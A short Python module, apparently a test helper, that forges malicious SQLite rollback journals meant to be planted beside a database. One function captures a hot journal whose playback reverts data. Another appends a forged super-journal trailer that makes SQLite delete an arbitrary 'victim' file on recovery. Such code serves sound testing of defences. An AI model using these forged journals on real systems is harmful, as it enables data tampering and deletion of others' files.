"""Rollback journals of SQLite that a stranger plants beside a database."""

from __future__ import annotations

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

#: Where SQLite locks a file; no page of it has this number at our size of page.
_LOCK_BYTE, _PAGE = 2**30, 4096
_MAGIC = bytes.fromhex("d9d505f920a163d7")


def hot_journal(database: Path) -> bytes:
    """A journal as a crash leaves it; played back, it undoes the last change of the database."""
    journal = database.with_name(f"{database.name}-journal")
    with closing(sqlite3.connect(database, isolation_level=None)) as opened:
        opened.execute("PRAGMA cache_size = 1")
        opened.execute("CREATE TABLE IF NOT EXISTS filler (text)")
        opened.execute("BEGIN IMMEDIATE")
        opened.execute("UPDATE jobs SET fate = 'forged'")
        for _ in range(50):  # more than its memory holds, so that it is written down before the end
            opened.execute("INSERT INTO filler VALUES (?)", ("a" * 4000,))
        content = journal.read_bytes()
        opened.execute("ROLLBACK")
        opened.execute("DROP TABLE filler")
    return content


def with_super_journal(journal: bytes, victim: Path) -> bytes:
    """The same as one of several journals of a transaction, which ``victim`` lists: played back,
    SQLite deletes the list.
    """
    name = bytes(victim)
    end = struct.pack(">I", _LOCK_BYTE // _PAGE + 1) + name
    end += struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF) + _MAGIC
    padding = -len(journal) % 512
    return journal + bytes(padding) + end
